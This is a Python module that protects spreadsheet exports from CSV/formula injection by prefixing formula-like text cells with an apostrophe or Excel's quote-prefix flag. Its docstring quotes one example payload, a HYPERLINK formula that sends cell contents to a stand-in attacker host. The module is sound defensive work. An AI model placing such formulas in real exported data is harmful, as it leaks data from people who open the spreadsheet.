"""The one formula guard for every file a spreadsheet may open (CSV/xlsx exports, the review CSV, the report
CSV): crawled text must never become a live formula (CSV injection, e.g. a title
`=HYPERLINK("http://evil.example/?x="&A1,"x")`).

A text cell is formula-like when it starts with `=`, `+`, `-`, `@`, a tab or a carriage return. In CSV
such a cell is written with a leading apostrophe (Excel and LibreOffice then show it as text); in xlsx it
is stored as a string cell with Excel's quote-prefix flag (what typing the apostrophe does), so the text
stays exactly as crawled. Numbers, dates and other typed values are not text and are left alone."""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: object) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(value: Any) -> Any:
    """A value for a CSV cell: formula-like text gets a leading apostrophe; anything else is unchanged."""
    return "'" + value if is_formula_like(value) else value


def guard_xlsx_row(sheet: Any, row_no: int) -> None:
    """Mark the formula-like text cells of one openpyxl row as strings with the quote-prefix flag."""
    for cell in sheet[row_no]:
        if is_formula_like(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
